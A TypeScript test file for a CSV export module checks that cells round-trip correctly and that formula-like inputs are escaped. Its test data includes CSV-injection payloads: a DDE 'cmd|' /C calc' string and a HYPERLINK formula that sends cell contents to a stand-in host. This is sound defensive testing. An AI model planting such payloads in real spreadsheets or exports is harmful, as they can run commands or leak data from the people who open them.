import { assert, describe, it } from "@effect/vitest"
import * as Schema from "effect/Schema"
import * as CsvText from "./CsvText.ts"
import { eventColumns } from "./EventColumns.ts"

/** A reader of RFC 4180 that shares nothing with the writer. */
const read = (text: string): ReadonlyArray<ReadonlyArray<string>> => {
  const rows: Array<Array<string>> = []
  let cells: Array<string> = []
  for (let at = 0; at < text.length;) {
    let content = ""
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (at >= text.length) throw new Error("a quote is not closed")
        if (text[at] === '"') at += 1
        content += text[at] ?? ""
      }
      at += 1
    } else {
      while (at < text.length && text[at] !== "," && text[at] !== "\r") content += text[at++] ?? ""
    }
    cells.push(content)
    if (text[at] === ",") at += 1
    else if (text.startsWith("\r\n", at)) {
      rows.push(cells)
      cells = []
      at += 2
    } else throw new Error(`neither "," nor a line's end at ${at}`)
  }
  return rows
}

// What OWASP names, with the full-width forms.
const dangerous = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]

const hostile = Schema.Struct({
  first: Schema.Literals([...dangerous, "'", '"', ",", ";", "a", ""]),
  rest: Schema.String,
  last: Schema.Literals(['"', '",=1+1,"', "\r\n=1+1", ";@SUM(A1)", "'", ""]),
})

const column = (name: string): number =>
  1 + eventColumns.findIndex((candidate) => candidate.name === name)

describe("CsvText", () => {
  it.prop("gives every text back", { text: hostile }, ({ text: { first, last, rest } }) => {
    const text = `${first}${rest}${last}`
    const [[content = "", ...others] = []] = read(`${CsvText.cell(text)}\r\n`)
    assert.isEmpty(others)
    assert.strictEqual(CsvText.textOf(content), text)
  })

  it.prop("begins no cell like a formula", { text: hostile }, ({ text: { first, last, rest } }) => {
    const line = CsvText.row(7, { reason: `${first}${rest}${last}`, tenant: `${first}${last}` })
    const rows = read(line)
    assert.strictEqual(rows.length, 1)
    assert.strictEqual(rows[0]?.length, eventColumns.length + 1)
    for (const content of rows[0] ?? []) {
      assert.isFalse(
        dangerous.some((start) => content.startsWith(start)),
        content,
      )
    }
  })

  it("escapes what OWASP names, and a formula in each of an event's members", () => {
    for (const start of dangerous) {
      assert.strictEqual(CsvText.cell(`${start}cmd|' /C calc'!A0`)[1], "'", start)
    }
    const event = {
      actor: { id: '=HYPERLINK("http://x/?"&A1)', roles: ["=1"] },
      data: -1,
      target: [{ id: "@SUM(1)", type: "+1" }],
    }
    const [cells = []] = read(CsvText.row(0, event))
    assert.strictEqual(cells[column("actor_id")], '\'=HYPERLINK("http://x/?"&A1)')
    assert.strictEqual(cells[column("target_id")], "'@SUM(1)")
    assert.strictEqual(cells[column("target_type")], "'+1")
    assert.strictEqual(cells[column("data")], "'-1")
  })

  it("keeps a text across lines in one record, and tells nothing from an empty text", () => {
    const line = CsvText.row(1, { reason: 'a "b",\r\nc', tenant: "" })
    assert.include(line, '"a ""b"",\r\nc"')
    const [cells = []] = read(line)
    assert.strictEqual(cells[column("reason")], 'a "b",\r\nc')
    assert.match(line, /,"",/)
    assert.match(CsvText.row(1, {}), /^1,+\r\n$/)
  })

  it("has a header as wide as its rows, and takes what is no event", () => {
    const [names = []] = read(CsvText.header)
    assert.strictEqual(names.length, eventColumns.length + 1)
    for (const event of ["no JSON", null, 3, [], { target: [], actor: "u", time: 5 }]) {
      assert.strictEqual(read(CsvText.row(2, event))[0]?.length, names.length)
    }
  })
})
